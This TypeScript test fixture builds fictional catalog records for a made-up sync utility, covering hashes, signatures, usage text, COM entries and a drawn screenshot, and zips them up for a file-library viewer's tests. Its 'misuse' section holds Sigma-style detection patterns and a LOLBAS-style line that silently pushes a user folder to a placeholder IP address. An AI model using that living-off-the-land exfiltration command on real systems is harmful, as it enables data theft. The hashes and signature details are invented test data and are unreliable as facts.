import { encode } from 'fast-png';
import { strToU8, zipSync } from 'fflate';
import type { CatalogRecord, ComRecord, FileRecord } from '../../../data/catalog/record';
import { type GivenFile, hashesOf, libraryPage } from '../harness/library-page';

/** Records of files that do not exist, with everything that a surface can show. */

const hex = (of: string, length: number) => hashesOf(of).SHA512.toLowerCase().slice(0, length);

interface Facts {
  version: string;
  machine: string;
  path: string;
  description?: string;
  imphash?: string;
  signed?: boolean;
}

function file(name: string, facts: Facts): FileRecord {
  const { version, machine, path, description = 'Nightly Sync', imphash, signed = true } = facts;
  const seed = `${name} ${version} ${path}`;
  const { MD5, SHA1, SHA256 } = hashesOf(seed);
  return {
    kind: 'file',
    id: `${name}-${MD5.toLowerCase()}`,
    page: `${name}-${MD5}.md`,
    name,
    path: `${path}\\${name}`,
    description,
    hashes: {
      md5: MD5.toLowerCase(),
      sha1: SHA1.toLowerCase(),
      sha256: SHA256.toLowerCase(),
      imphash: imphash ?? hex(`imports of ${seed}`, 32),
    },
    signature: {
      status: signed ? 'Signature verified.' : 'The file is not digitally signed.',
      valid: signed,
      ...(signed
        ? {
            subject: 'CN=Example Ltd, O=Example Ltd, L=Exampleton, C=GB',
            issuer: 'CN=Example Code Signing CA, O=Example Ltd, C=GB',
            thumbprint: hex('certificate', 40),
            serial: hex('serial', 32),
          }
        : {}),
    },
    version: {
      originalFilename: name,
      product: 'Nightly Sync',
      company: 'Example Ltd',
      fileVersion: version,
      productVersion: version,
      language: 'English (United Kingdom)',
      copyright: 'Copyright (c) Example Ltd',
      machine,
    },
    scan: { detections: 0, engines: 71 },
  };
}

const FOLDER = 'C:\\Program Files\\Nightly Sync';
const FOLDER_32 = 'C:\\Program Files (x86)\\Nightly Sync';
const SHARED = hex('shared imports', 32);

const OLD = file('nightlysync.exe', { version: '4.1.3.0', machine: '64-bit', path: FOLDER });
const SMALL = file('nightlysync.exe', { version: '4.2.0.7', machine: '32-bit', path: FOLDER_32 });
const UNSIGNED = file('nightlysync.exe', {
  version: '4.2.0.7',
  machine: '64-bit',
  path: 'C:\\ProgramData\\Nightly Sync\\cache',
  signed: false,
});

const USAGE = `Nightly Sync 4.2.0.7  (C) Example Ltd

Usage: nightlysync <command> [options]

Commands:
  push <folder>      copy what changed to the server
  pull <folder>      copy what changed from the server
  status             say what would be copied, and copy nothing

Options:
  /server:<name>     server to speak to; the one of the policy otherwise
  /since:<date>      only what changed since, such as 2021-11-30
  /quiet             print errors alone
  /?                 print this text

Exit codes:
  0  all is the same      1  something was copied      2  an error`;

const DOCS = `# nightlysync

Copies the files of a folder to a server, and back, **once a night**.

## Syntax

\`\`\`
nightlysync {push | pull | status} [<folder>] [/server:<name>] [/since:<date>] [/quiet]
\`\`\`

### Parameters

| Parameter | Description |
|--|--|
| \`push\` | Copies what changed in *folder* to the server. |
| \`pull\` | Copies what changed on the server into *folder*. |
| \`/server:<name>\` | The server to speak to. Without it, the one of the policy. |
| \`/quiet\` | Prints errors alone. |

> [!NOTE]
> A folder that is open in another program is left out, and said so.

## Examples

To say what would be copied from \`D:\\Reports\`, type:

\`\`\`
nightlysync status D:\\Reports
\`\`\`
`;

/** The record that the pictures are mostly of. */
export const SYNC: FileRecord = {
  ...file('nightlysync.exe', {
    version: '4.2.0.7',
    machine: '64-bit',
    path: FOLDER,
    imphash: SHARED,
  }),
  comments: 'Copies folders once a night',
  scan: { detections: 1, engines: 71, link: 'https://example.org/scan/nightlysync' },
  runtime: {
    stdout: USAGE,
    windowTitle: 'Nightly Sync',
    children: ['wksprt.exe', 'conhost.exe'],
    handles: [
      { path: `${FOLDER}\\en-GB\\nightlysync.exe.mui`, access: 'R-D', type: 'File' },
      {
        path: 'C:\\Users\\user\\AppData\\Local\\Nightly Sync\\journal.db',
        access: 'RW-',
        type: 'File',
      },
      { path: '\\BaseNamedObjects\\NightlySync_Journal', type: 'Section' },
      { path: '\\Sessions\\1\\Windows\\Theme449731986', type: 'Section' },
    ],
    modules: [
      `${FOLDER}\\nightlysync.exe`,
      `${FOLDER}\\nightlycore.dll`,
      'C:\\Windows\\System32\\ntdll.dll',
      'C:\\Windows\\System32\\KERNEL32.DLL',
      'C:\\Windows\\System32\\ws2_32.dll',
      'C:\\Windows\\SysWOW64\\wtsapi32.dll',
    ],
  },
  misuse: [
    {
      source: 'sigma',
      sourceUrl: 'https://github.com/SigmaHQ/sigma',
      file: 'proc_creation_win_sync_to_foreign_server.yml',
      fileUrl: 'https://github.com/SigmaHQ/sigma',
      example: "Image|endswith: '\\nightlysync.exe'",
      license: 'DRL 1.0',
      licenseUrl: 'https://github.com/SigmaHQ/Detection-Rule-License',
    },
    {
      source: 'sigma',
      sourceUrl: 'https://github.com/SigmaHQ/sigma',
      file: 'file_event_win_sync_journal_in_temp.yml',
      fileUrl: 'https://github.com/SigmaHQ/sigma',
      example: "ParentImage|endswith: '\\nightlysync.exe'",
      license: 'DRL 1.0',
      licenseUrl: 'https://github.com/SigmaHQ/Detection-Rule-License',
    },
    {
      source: 'LOLBAS',
      sourceUrl: 'https://github.com/LOLBAS-Project/LOLBAS',
      file: 'Nightlysync.yml',
      fileUrl: 'https://github.com/LOLBAS-Project/LOLBAS',
      example: 'nightlysync.exe push C:\\Users\\Public /server:198.51.100.7 /quiet',
      license: 'GPL-3.0',
      licenseUrl: 'https://www.gnu.org/licenses/gpl-3.0.html',
    },
  ],
  similar: [
    { page: OLD.page ?? '', score: 91 },
    { page: SMALL.page ?? '', score: 63 },
    { page: `nightlyview.exe-${hashesOf('view').MD5}.md`, score: 38 },
  ],
  docs: DOCS,
  screenshots: ['nightlysync.exe-1.png'],
};

const CORE = file('nightlycore.dll', {
  version: '4.2.0.7',
  machine: '64-bit',
  path: FOLDER,
  description: 'Nightly Sync core',
  imphash: SHARED,
});

const TRAY = file('nightlytray.exe', {
  version: '4.2.0.7',
  machine: '64-bit',
  path: FOLDER,
  description: 'Nightly Sync in the notification area',
  imphash: SHARED,
});

function com(digit: string, name: string, path: string, progId: string): ComRecord {
  const clsid = `${digit.repeat(8)}-4c2e-4f1a-9d0b-5a7e2f90c3d1`;
  return {
    kind: 'com',
    id: `clsid-${clsid}`,
    clsid,
    name,
    progId,
    servers: [{ type: 'InProcServer32', path, threadingModel: 'Apartment' }],
    registry: {
      '(default)': name,
      InProcServer32: { '(default)': path, ThreadingModel: 'Apartment' },
      ProgID: { '(default)': progId },
    },
    instance: {
      type: 'ComObject',
      methods: { Push: 'int Push (string folder)', Status: 'string Status ()' },
      properties: { Server: 'string Server () {get} {set}' },
    },
  };
}

export const COM = com(
  '6',
  'Nightly Sync Session',
  `${FOLDER}\\nightlycore.dll`,
  'NightlySync.Session.1',
);

const RECORDS: readonly CatalogRecord[] = [
  SYNC,
  OLD,
  SMALL,
  UNSIGNED,
  CORE,
  TRAY,
  COM,
  com('7', 'Nightly Sync Journal', `${FOLDER}\\nightlycore.dll`, 'NightlySync.Journal.1'),
  com('8', 'Terminal Session Watcher', 'C:\\Windows\\SysWOW64\\wtsapi32.dll', 'Example.Watcher.1'),
];

/** The records in a zip with the picture that one of them has. */
export function galleryArchive(): GivenFile {
  const lines = RECORDS.map((record) => JSON.stringify(record)).join('\n');
  return {
    name: 'golden-image.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(
      zipSync({
        'golden-image.ndjson': strToU8(lines),
        'screenshots/nightlysync.exe-1.png': drawnWindow(),
      }),
    ),
  };
}

/** An archive of which a page cannot be read. */
export function checkArchive(): GivenFile {
  const { name, buffer } = libraryPage({ name: 'nightlycheck.exe', description: 'Nightly Sync' });
  return {
    name: 'nightly-check.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(
      zipSync({
        [`library/${name}`]: buffer,
        [`library/broken.exe-${'0'.repeat(32)}.md`]: strToU8('# broken.exe\n\nNothing else.\n'),
      }),
    ),
  };
}

/** A window with a title and some lines, as blocks. */
function drawnWindow(): Uint8Array {
  const [width, height] = [420, 200];
  const data = new Uint8Array(width * height * 3);
  const fill = (left: number, top: number, right: number, bottom: number, colour: number[]) => {
    for (let y = top; y < bottom; y++) {
      for (let x = left; x < right; x++) data.set(colour, (y * width + x) * 3);
    }
  };
  fill(0, 0, width, height, [240, 240, 240]);
  fill(0, 0, width, 28, [0, 99, 177]);
  fill(10, 10, 96, 18, [255, 255, 255]);
  fill(396, 10, 406, 18, [255, 255, 255]);
  [250, 310, 190, 280].forEach((length, line) => {
    fill(20, 50 + line * 22, 20 + length, 58 + line * 22, [96, 96, 96]);
  });
  fill(20, 150, 400, 162, [210, 210, 210]);
  fill(20, 150, 236, 162, [6, 176, 37]);
  return encode({ width, height, data, channels: 3 });
}
